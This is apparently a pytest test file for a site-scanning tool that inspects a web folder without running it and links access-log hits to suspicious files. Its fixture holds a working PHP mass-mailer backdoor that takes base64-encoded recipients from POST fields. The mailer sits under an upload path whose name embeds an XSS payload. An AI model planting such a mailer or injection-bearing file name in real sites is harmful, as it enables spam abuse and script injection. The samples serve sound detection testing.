"""The site page: a folder of this machine is read, never run; what is found is said with who called it."""

from __future__ import annotations

import html
import re
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from modori.show.words import Words
from tests.web.client import EXAMPLES, Answer, Server
from tests.web.window import clean, fits, opened, serious, shot

MAILER = (
    b"<?php foreach (explode(',', base64_decode($_POST['t'])) as $x) mail($x, base64_decode($_POST['s']), $_POST['b']);"
)
DROPPED = "wp-content/uploads/2026/05/<img src=x onerror=alert(1)>.php"


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small site with a mailer that somebody dropped, under a hostile name."""
    folder = tmp_path_factory.mktemp("public_html")
    (folder / DROPPED).parent.mkdir(parents=True)
    (folder / DROPPED).write_bytes(MAILER)
    (folder / "index.html").write_text("<h1>shop</h1>", encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    file = tmp_path_factory.mktemp("logs") / "access_log"
    path = quote("/" + DROPPED)
    file.write_text(f'203.0.113.66 - - [12/Jul/2026:16:01:49 +0900] "POST {path} HTTP/1.1" 200 5 "-" "-"\n' * 3)
    return file


def examine(server: Server, path: object, logs: str = "") -> Answer:
    return server.send("POST", "/site", f"path={quote(str(path))}&logs={quote(logs)}", accept_language="en")


def result(server: Server, sent: Answer) -> str:
    job = sent.headers["location"].rpartition("/")[2]
    assert server.finished(job) == "done"
    return text(server.get(f"/jobs/{job}"))


def text(answer: Answer) -> str:
    return " ".join(html.unescape(re.sub(r"<[^>]*>", " ", answer.text)).split())


def test_a_dropped_mailer_is_found_and_the_list_knows_it(server: Server, site: Path, log: Path) -> None:
    found = result(server, examine(server, site, f"{log}\n\n"))
    assert Words("en").say("site.answer.hostile.what") in found
    assert DROPPED in found
    assert str(site) in found
    assert "203.0.113.66 called it 3 times" in found
    assert Words("en").say("site.head.visits") not in found, "it belongs to the file, however its name is written"
    assert Words("en").say("verdict.site-hostile.name") in text(server.get("/"))


def test_a_plain_site_is_calm(server: Server, tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text("<h1>shop</h1>", encoding="utf-8")
    assert Words("en").say("site.answer.calm.what") in result(server, examine(server, tmp_path))


@pytest.mark.parametrize(("path", "logs"), [("", ""), ("relative", ""), ("/no/such", ""), ("/tmp", "/no/such"), ("/\0", ""), ("~nobody-here/x", "")])
def test_what_is_not_there_is_said(server: Server, path: str, logs: str) -> None:
    answer = examine(server, path, logs)
    assert answer.status == 422
    assert 'role="alert"' in answer.text


def test_a_site_that_is_handed_over_alone_is_looked_through(server: Server, site: Path) -> None:
    job = str(server.send("POST", "/jobs", "me=").json()["id"])
    for name in ("index.html", DROPPED):
        server.hand(job, f"site/{name}", (site / name).read_bytes())
    server.send("POST", f"/jobs/{job}/begin")
    assert server.finished(job) == "done"
    assert Words("en").say("site.answer.hostile.what") in text(server.get(f"/jobs/{job}"))


def test_a_site_beside_a_mailbox_has_a_page_of_its_own(server: Server, site: Path) -> None:
    job = str(server.send("POST", "/jobs", "me=").json()["id"])
    server.hand(job, "inbox.mbox", (EXAMPLES / "forged" / "inbox.mbox").read_bytes())
    for name in ("index.html", DROPPED):
        server.hand(job, f"site/{name}", (site / name).read_bytes())
    server.send("POST", f"/jobs/{job}/begin")
    assert server.finished(job) == "done"
    assert f'href="/jobs/{job}/site"' in server.get(f"/jobs/{job}").text
    assert Words("en").say("site.answer.hostile.what") in text(server.get(f"/jobs/{job}/site"))


def test_a_mailbox_alone_has_none(server: Server) -> None:
    job = server.examine(inbox=EXAMPLES / "forged" / "inbox.mbox")
    assert server.get(f"/jobs/{job}/site").status == 404
    assert f'href="/jobs/{job}/site"' not in server.get(f"/jobs/{job}").text


@pytest.mark.browser
@pytest.mark.parametrize(("lang", "script"), [("ja", True), ("en", False)])
def test_the_page_in_a_browser(chromium: Any, server: Server, site: Path, log: Path, lang: str, script: bool) -> None:
    with opened(chromium, server, java_script_enabled=script) as window:
        window.goto(f"{server.origin}/site?lang={lang}")
        if script:
            assert serious(window) == []
        window.fill("#path", str(site))
        window.fill("#logs", str(log))
        window.click("button.primary")
        window.wait_for_selector(".answer", timeout=60_000)
        assert window.inner_text("h1") == Words(lang).say("site.answer.hostile.what")
        assert DROPPED in window.inner_text("main")
        assert "203.0.113.66" in window.inner_text("main")
        shot(window, f"site-result-{lang}")
        if script:
            assert serious(window) == []
            clean(window, server)
            window.set_viewport_size({"width": 320, "height": 800})
            assert fits(window)
            assert window.pdf(format="A4").startswith(b"%PDF")
        window.click("footer button")
        window.wait_for_url(f"{server.origin}/")
        assert (site / DROPPED).exists(), "deleting the result leaves the site alone"
